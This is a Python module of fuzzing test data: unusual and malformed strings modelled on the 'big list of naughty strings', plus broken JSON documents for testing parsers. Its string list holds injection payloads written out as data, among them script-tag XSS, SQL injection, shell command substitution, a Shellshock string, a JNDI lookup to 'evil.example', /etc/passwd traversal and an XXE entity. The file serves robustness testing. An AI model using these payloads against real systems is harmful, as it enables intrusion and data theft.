"""Texts that break programs, after the kinds of the "big list of naughty strings"; documents that break
parsers."""

from __future__ import annotations

NAUGHTY = [
    *("undefined", "null", "NULL", "None", "nil", "true", "hasOwnProperty", "then", "constructor", "\\", "\\\\"),
    *("0", "1", "-1", "1.00", "1E2", "1/0", "0x0", "0b0", "NaN", "Infinity", "-Infinity", "1e400", "9" * 400),
    *("1,000.00", "01000", "08", "２", "½", "٠١٢٣", "0..0", ".", "-", "--version", "--help", "$USER", "-;-,"),
    *(",./;'[]\\-=", '<>?:"{}|_+', "!@#$%^&*()`~", "\x01\x02\x7f", "\x85\xa0\u1680\u180e\u2028\u2029\u3000"),
    *("\ufeff", "\ufffe", "\uffff", "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ“‘", "⁰⁴⁵", "₀₁₂", "⁰⁴⁵₀₁₂", "ด้้้้้็็็็็้้้้้็็็็็"),
    *("'", '"', "''", '""', "'\"'", '"\'\'\'\'"', "<foo val=“bar” />", "田中さんにあげて下さい", "和製漢語", "찦차를 타고"),
    *("Ⱥ", "Ⱦ", "ヽ༼ຈل͜ຈ༽ﾉ", "(｡◕ ∀ ◕｡)", "😍", "👩🏽", "👨‍🦰 👩‍👩‍👧‍👦", "🇺🇸🇷🇺🇸", "✋🏿 💪🏿", "１２３", "ثم نفس سقطت", "הָיְתָה", "\u202atest\u202a"),
    *("\u202btest", "\u2028test\u2029", "\u2066test\u2067", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "˙ɐnbᴉlɐ ɐuƃɐɯ", "Ｔｈｅ ｑｕｉｃｋ", "𝐓𝐡𝐞", "🅣🅗🅔"),
    *("\U000e0041\U000e0042\U000e0043", "a\u0300" * 200, "\u0041\u030a \u00c5 \u212b", "ﬃ ǅ ı İ ß", "\U0010ffff", "\u200b\u200d\u2060"),
    *("<script>alert(0)</script>", "&lt;script&gt;", "<svg><script>0<1>alert(1)</script>", '"><script>alert(2)</script>'),
    *("<img src=x onerror=alert(3) />", "javascript:alert(4);", "<a href='javascript&#58;alert(5)'>x</a>", "<!--#exec cmd='ls'-->"),
    *("1;DROP TABLE users", "1'; DROP TABLE users-- 1", "' OR 1=1 -- 1", "%", "_", "-- ", "*/", "/dev/null; touch /tmp/x ; echo"),
    *("`touch /tmp/x`", "$(touch /tmp/x)", "@{[system 'touch /tmp/x']}", 'eval("puts 1")', "System.out", "%d%s%n%x", "{0}{1}{{}}", "%*.*s"),
    *("{{ 7*7 }} {% debug %} {% load x %}", "{# x #}", "${jndi:ldap://evil.example/x}", "<%= 7*7 %>", "#{7*7}", "../../../../etc/passwd"),
    *("file:///etc/passwd", "C:\\con\\con", "CON", "COM1", "aux.h", "https://a/%%30%30", "http://a/%2f..", "%00", "%0d%0aSet-Cookie: x=1"),
    *("<?xml version='1.0'?><!DOCTYPE foo [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><foo>&x;</foo>", "() { 0; }; touch /tmp/x;"),
    *("Power لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗", "జ్ఞ‌ా", "گچپژ", "{\"a\":1}", "[]", "{}", "# heading\n\n* x", "```\ncode\n```", "a" * 1999, "a\r\nb\rc\nd\te"),
]  # fmt: skip
UNSTORABLE = ["\x00", "a\x00b", "\ud800", "x\udfffy"]

DOCUMENTS = [
    *("", " ", "\n", "{", "}", "[", "]", "[,]", "[1,]", "[1,,2]", "{,}", '{"a"}', '{"a":}', "{a:1}", "{'a':1}", '{"a":1,}', '{"a" "b"}'),
    *('["x"', '["', '["\\', '["\\u', '["\\u00', '["\\x00"]', '["\t"]', '["\n"]', '["\\ud800"]', '["\\udc00\\ud800"]', '["\\u0000"]', '["\x00"]'),
    *("nul", "tru", "True", "NULL", "NaN", "Infinity", "-Infinity", "[NaN]", "[-NaN]", "[1e400]", "[-1e400]", "[0e+]", "[1.]", "[.1]", "[+1]", "[01]"),
    *("[0x1]", "[1e]", "[--1]", "[9" + "9" * 5000 + "]", "[" * 500 + "]" * 500, "[" * 100_000, '{"a":' * 500 + "1" + "}" * 500, '{"a":' * 50_000),
    *("[1]x", "{}{}", "//x", "/*x*/{}", "\ufeff{}", "a\x00b", "123", '"x"', "null", "true", "[]", "[[]]", '{"do":null}', '{"do":["ask"]}', '{"do":{"ask":1}}'),
    *('{"do":"ask","do":"stop"}', '{"do":"ask"' + ',"x":1' * 5000 + "}", '{"do":"' + "a" * 70_000 + '"}', '{"__proto__":{"do":"ask"}}', '{"do":"\\ud83d"}'),
]  # fmt: skip
